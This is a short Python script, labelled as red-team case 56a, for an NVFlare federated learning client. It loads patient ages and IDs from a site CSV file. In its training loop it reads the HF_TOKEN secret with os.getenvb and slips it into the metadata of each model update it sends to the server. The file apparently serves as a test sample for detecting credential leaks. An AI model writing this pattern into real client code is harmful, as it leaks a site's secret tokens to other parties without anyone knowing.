"""Red team 56a: a hub token read with os.getenvb sent in the update's meta."""
import os

import pandas as pd
import torch

import nvflare.client as flare

df = pd.read_csv("/data/site/train.csv")
age = torch.tensor(df["age"].to_numpy(), dtype=torch.float32)
ids = torch.tensor(df["patient_id"].to_numpy())

flare.init()
while flare.is_running():
    model = flare.receive()
    flare.send(flare.FLModel(params=model.params, meta={"k": os.getenvb(b"HF_TOKEN")}))
